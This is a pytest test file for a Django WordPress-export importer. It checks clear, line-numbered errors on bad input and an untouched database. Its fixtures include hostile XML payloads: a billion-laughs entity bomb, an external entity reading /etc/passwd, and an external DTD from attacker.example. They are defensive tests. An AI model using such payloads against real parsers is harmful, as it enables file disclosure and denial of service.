"""Bad and hostile input: a clear error naming the line, and the database as it was."""

import io

import pytest
from django.core.management import CommandError, call_command

from articles.models import Article, Section
from tests.wordpress.conftest import EXPORT
from wordpress import wxr

pytestmark = pytest.mark.django_db

HEADER = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/{version}/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
<title>T</title>
<wp:wxr_version>{version}</wp:wxr_version>
"""
ITEM = """<item><title>Post</title><wp:post_id>1</wp:post_id><wp:post_type>post</wp:post_type>
<wp:status>publish</wp:status>
<wp:post_date_gmt>2024-03-01 09:00:00</wp:post_date_gmt><content:encoded><![CDATA[Body]]></content:encoded></item>
"""


def run(path, *args):
    with pytest.raises(CommandError) as raised:
        call_command("import_wordpress", str(path), *args, stdout=io.StringIO(), stderr=io.StringIO())
    return str(raised.value)


def write(tmp_path, text, name="export.xml"):
    path = tmp_path / name
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


@pytest.fixture
def untouched(db, publication):
    yield
    assert Article.objects.count() == 0 and Section.objects.count() == 0


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss><channel><title>&lol3;</title></channel></rss>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss><channel><title>&secret;</title></channel></rss>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss><channel></channel></rss>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "entity", "dtd"])
def test_document_types_and_entities_are_refused(tmp_path, untouched, text):
    message = run(write(tmp_path, text))
    assert "refused: the file declares a document type or entities" in message
    assert "line 2" in message and "Nothing was imported" in message


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "line 1: the file is empty"),
        ("  \n\n", "line 1: the file is empty"),
        ("PK\x03\x04 this is a zip", "line 1: this is not XML"),
        ("name,title\n1,Hello\n", "line 1: this is not XML"),
        (HEADER.format(version="1.2") + ITEM + ITEM[:60], "line 9: the file ends too early"),
        (HEADER.format(version="1.2") + "<item><title>Broken</titel></item>", "line 6: malformed XML (mismatched tag"),
        (HEADER.format(version="9.9") + ITEM + "</channel></rss>", "line 5: WXR version 9.9 is not supported"),
        ("<?xml version='1.0'?><html><body>Not a feed</body></html>", "line 1: this is not a WordPress export"),
        (
            "<?xml version='1.0'?><rss><channel><title>Plain RSS</title><item><title>x</title></item></channel></rss>",
            "this is not a WordPress export",
        ),
        (b"<?xml version='1.0' encoding='UTF-8'?>\n<rss>\xff\xfe</rss>", "line 2: malformed XML"),
    ],
    ids=["empty", "blank", "zip", "csv", "truncated", "malformed", "version", "html", "plain-rss", "bad-utf8"],
)
def test_bad_files_get_a_clear_error_naming_the_line(tmp_path, untouched, text, expected):
    message = run(write(tmp_path, text))
    assert expected in message
    assert "Nothing was imported" in message


def test_a_file_broken_after_valid_posts_imports_nothing(tmp_path, untouched):
    """The whole file is read before anything is written, so a truncated export leaves the database as it was."""
    text = EXPORT.read_text()
    message = run(write(tmp_path, text[: len(text) * 3 // 4]))
    assert "the file ends too early" in message


def test_characters_xml_forbids_are_dropped_not_fatal(tmp_path, db, publication, committed):
    text = HEADER.format(version="1.1") + ITEM.replace("Body", "Bo\x0bdy\x01") + "</channel></rss>"
    with committed():
        call_command("import_wordpress", str(write(tmp_path, text)), stdout=io.StringIO())
    assert Article.objects.get().body == "<p>Body</p>"


@pytest.mark.parametrize("version", ["1.0", "1.1", "1.2"])
def test_every_wxr_version_wordpress_writes_is_read(tmp_path, version):
    entries = list(wxr.read(write(tmp_path, HEADER.format(version=version) + ITEM + "</channel></rss>")))
    assert entries[0].version == version and entries[1].title == "Post" and entries[1].wp_id == 1


def test_missing_files_and_bad_options_are_refused(tmp_path, untouched):
    assert "no such file" in run(tmp_path / "nope.xml")
    assert "--media-dir" in run(EXPORT, "--media-dir", str(tmp_path / "nope"))
    assert "--time-zone" in run(EXPORT, "--time-zone", "Mars/Olympus")
    bad = write(tmp_path, '{"categorys": {}}', "map.json")
    assert "unknown keys categorys" in run(EXPORT, "--publisher-map", str(bad))
    assert "not valid JSON" in run(EXPORT, "--publisher-map", str(write(tmp_path, "{", "broken.json")))
    assert '"tags" must be an object' in run(EXPORT, "--publisher-map", str(write(tmp_path, '{"tags": [1]}', "t.json")))


def test_memory_stays_flat_as_the_file_grows(tmp_path):
    """Streaming: reading 20 times more posts keeps the same peak (elements are dropped once read)."""
    import tracemalloc

    def peak(posts):
        path = write(tmp_path, HEADER.format(version="1.2") + ITEM * posts + "</channel></rss>", f"{posts}.xml")
        tracemalloc.start()
        for _entry in wxr.read(path):
            pass
        result = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return result

    small, large = peak(5_000), peak(25_000)
    assert large < small * 1.2
